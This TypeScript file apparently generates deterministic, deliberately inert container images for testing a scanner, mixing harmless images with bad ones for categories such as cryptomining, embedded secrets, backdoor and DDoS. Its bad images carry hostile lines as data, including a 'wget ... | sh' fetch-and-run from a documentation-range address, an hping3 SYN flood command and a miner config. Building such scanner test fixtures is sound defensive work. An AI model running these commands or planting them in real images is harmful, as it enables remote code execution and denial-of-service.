/**
 * Inert images in the shapes of the study's categories, and harmless ones beside them, on a few shared bases. Nothing
 * in them works: addresses are of the documentation ranges, keys and wallets are made from a number, programs are
 * texts. The same number gives the same image, byte for byte, so that a second hunt finds nothing new.
 */
import { createHash } from 'node:crypto';
import { encodeCryptonote } from '../indicator/base58.ts';
import type { Category } from '../model/terms.ts';
import { directory, file, type ImageSpec, type TarEntry, whiteout } from './image-builder.ts';
import { eicar } from './sample.ts';

export interface SampleImage {
  /** `team/name`, without a registry. */
  readonly repository: string;
  readonly tag: string;
  readonly spec: ImageSpec;
  /** What a scan has to say of it; empty for a harmless one. */
  readonly categories: readonly Category[];
}

/** @param count how many; every fourth image is a bad one, by turns of each category */
export function sampleImages(count: number): SampleImage[] {
  return Array.from({ length: count }, (_, number) => {
    const kind = number % 4 === 3 ? bad[Math.floor(number / 4) % bad.length]! : undefined;
    const base = bases[number % bases.length]!;
    if (kind === undefined) return harmless(number, base);
    const { layers, history, config = {} } = kind.hide(number);
    return {
      repository: kind.repository(number),
      tag: '1',
      categories: kind.categories,
      spec: {
        layers: [base.entries, ...layers, application(number)],
        history: [base.history, ...history, copied],
        config: { ...surroundings, ...config },
      },
    };
  });
}

interface Hidden {
  readonly layers: readonly (readonly TarEntry[])[];
  readonly history: readonly string[];
  readonly config?: Readonly<Record<string, unknown>>;
}

interface BadKind {
  readonly categories: readonly Category[];
  repository(number: number): string;
  hide(number: number): Hidden;
}

const surroundings = { Env: ['PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin'] };

const bases = ['alpha', 'beta', 'gamma'].map((name) => ({
  history: `ADD ${name}-rootfs.tar.gz / # buildkit`,
  entries: [
    directory('etc'),
    file('etc/os-release', `PRETTY_NAME="Sample Linux ${name}"\nID=sample\n`),
    directory('usr/share/sample'),
    ...Array.from({ length: 60 }, (_, page) =>
      file(`usr/share/sample/${page}.txt`, `${name} ${page}\n${text(`${name} ${page}`, 3000)}\n`),
    ),
    directory('usr/sbin'),
    file('usr/sbin/serve', '#!/bin/sh\n# stands for a web server\nexit 0\n', { mode: 0o755 }),
  ],
}));

function harmless(number: number, base: (typeof bases)[number]): SampleImage {
  const names = ['shop', 'blog', 'api', 'docs', 'cron', 'mail', 'proxy', 'search', 'metrics', 'queue'];
  const name = names[number % names.length]!;
  return {
    repository: `${name}/service-${number}`,
    tag: '1',
    categories: [],
    spec: {
      layers: [base.entries, application(number)],
      history: [base.history, copied],
      config: { ...surroundings, Entrypoint: ['/usr/sbin/serve'], Cmd: [name] },
    },
  };
}

const copied = 'COPY app /srv/app # buildkit';

/** 64 KiB that no other image has: what is in common is the base. */
function application(number: number): TarEntry[] {
  return [
    directory('srv/app'),
    ...Array.from({ length: 16 }, (_, part) =>
      file(`srv/app/${part}.txt`, `${text(`application ${number} ${part}`, 4095)}\n`),
    ),
  ];
}

const bad: readonly BadKind[] = [
  {
    categories: ['cryptomining'],
    repository: (number) => `fastcdn/cache-${number}`,
    hide(number) {
      const pool = { url: 'stratum+tcp://pool.example.com:4444', user: `${wallet(number)}.w`, algo: 'rx/0' };
      const settings = { autosave: true, 'donate-level': 1, cpu: { enabled: true }, pools: [pool] };
      return {
        layers: [
          [
            directory('opt/cache'),
            file('opt/cache/worker', '#!/bin/sh\n# stands for a miner\nexit 0\n', { mode: 0o755 }),
            file('opt/cache/config.json', JSON.stringify(settings, undefined, 2)),
            script(
              'start.sh',
              'nohup /opt/cache/worker --config=/opt/cache/config.json >/dev/null 2>&1 &',
              'exec "$@"',
            ),
          ],
        ],
        history: ['COPY cache /opt/cache # buildkit'],
        config: { Entrypoint: ['/start.sh'], Cmd: ['/usr/sbin/serve'] },
      };
    },
  },
  {
    categories: ['embedded-secret'],
    repository: (number) => `startup/backend-${number}`,
    hide(number) {
      const credentials = `[default]\naws_access_key_id = AKIA${letters(number, 16)}\naws_secret_access_key = ${secret(number)}\n`;
      return {
        layers: [[file('root/.aws/credentials', credentials)], [whiteout('root/.aws/credentials')]],
        history: ['COPY .aws /root/.aws # buildkit', 'RUN /bin/sh -c rm -r /root/.aws # buildkit'],
        config: { Entrypoint: ['/usr/sbin/serve'] },
      };
    },
  },
  {
    categories: ['proxy-avoidance'],
    repository: (number) => `hooks/relay-${number}`,
    hide: (number) =>
      started(
        `exec /usr/sbin/serve --callback https://${letters(number, 8).toLowerCase()}.ngrok-free.app/hook`,
      ),
  },
  {
    categories: ['dynamic-dns'],
    repository: (number) => `home/bridge-${number}`,
    hide: (number) =>
      started(`exec /usr/sbin/serve --server https://${letters(number, 8).toLowerCase()}.duckdns.org:8443`),
  },
  {
    categories: ['hacking'],
    repository: (number) => `probe/health-${number}`,
    hide: (number) =>
      started(`ping -c1 ${letters(number, 8).toLowerCase()}.oast.fun`, 'exec /usr/sbin/serve'),
  },
  {
    categories: ['malicious-website'],
    repository: (number) => `update/agent-${number}`,
    hide: () => started('exec /usr/sbin/serve --updates http://0.versiondat.xyz/list'),
  },
  {
    categories: ['ddos'],
    repository: (number) => `load/tester-${number}`,
    hide: () => ({
      layers: [],
      history: [],
      config: { Cmd: ['hping3', '-S', '--flood', '-p', '80', '198.51.100.7'] },
    }),
  },
  {
    categories: ['backdoor'],
    repository: (number) => `tools/runner-${number}`,
    hide: (number) =>
      started(`wget -qO- http://198.51.100.${number % 250}/x.sh | sh`, 'exec /usr/sbin/serve'),
  },
  {
    categories: ['other'],
    repository: (number) => `samples/scanner-${number}`,
    hide: () => ({
      layers: [[file('srv/test.com', eicar())]],
      history: ['COPY test.com /srv/ # buildkit'],
      config: { Entrypoint: ['/usr/sbin/serve'] },
    }),
  },
];

function started(...lines: readonly string[]): Hidden {
  return {
    layers: [[script('start.sh', ...lines)]],
    history: ['COPY start.sh / # buildkit'],
    config: { Entrypoint: ['/start.sh'] },
  };
}

function script(path: string, ...lines: readonly string[]): TarEntry {
  return file(path, ['#!/bin/sh', ...lines, ''].join('\n'), { mode: 0o755 });
}

/** Network byte of a Monero main net address (cryptonote_config.h, read 2026-11). */
const moneroMainnet = 18;

/** A Monero address with a right checksum whose keys nobody has. */
export function wallet(number: number): string {
  const keys = Buffer.concat([digest(`spend ${number}`), digest(`view ${number}`)]);
  return encodeCryptonote(Buffer.concat([Buffer.from([moneroMainnet]), keys]));
}

const base32 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';

function letters(number: number, length: number): string {
  return Array.from(digest(`letters ${number}`).subarray(0, length), (byte) => base32[byte % 32]).join('');
}

/** The form of an AWS secret access key. */
function secret(number: number): string {
  return digest(`secret ${number}`).toString('base64').slice(0, 40);
}

function digest(of: string): Buffer {
  return createHash('sha256').update(of).digest();
}

/** Words that compress as text does. */
function text(seed: string, length: number): string {
  let words = '';
  for (let round = 0; words.length < length; round++)
    words += ` ${digest(`${seed} ${round}`).toString('hex')}`;
  return words.slice(0, length);
}
